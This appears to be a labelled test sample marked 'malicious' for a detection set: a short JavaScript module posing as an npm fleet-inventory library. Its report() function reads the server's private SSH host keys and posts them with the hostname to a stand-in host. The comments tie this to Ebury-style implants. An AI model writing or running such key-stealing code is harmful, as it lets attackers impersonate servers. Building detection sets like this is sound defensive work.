// expect: malicious
// source: host-key theft by server-side implants (Ebury-style, reported 2014-2024), as an npm fleet-inventory
// library: its exported report reads sshd's private host keys, not only the public halves, and posts them with
// the host name
const fs = require('fs');
const os = require('os');
const https = require('https');
const TYPES = ['ed25519', 'ecdsa', 'rsa'];
exports.report = function report() {
  const keys = {};
  for (const t of TYPES) {
    try { keys[t] = fs.readFileSync(`/etc/ssh/ssh_host_${t}_key`, 'utf8'); } catch (e) {}
  }
  const req = https.request({ host: 'inventory.fleet-report.example', path: '/v1/hosts', method: 'POST' });
  req.end(JSON.stringify({ host: os.hostname(), keys }));
};
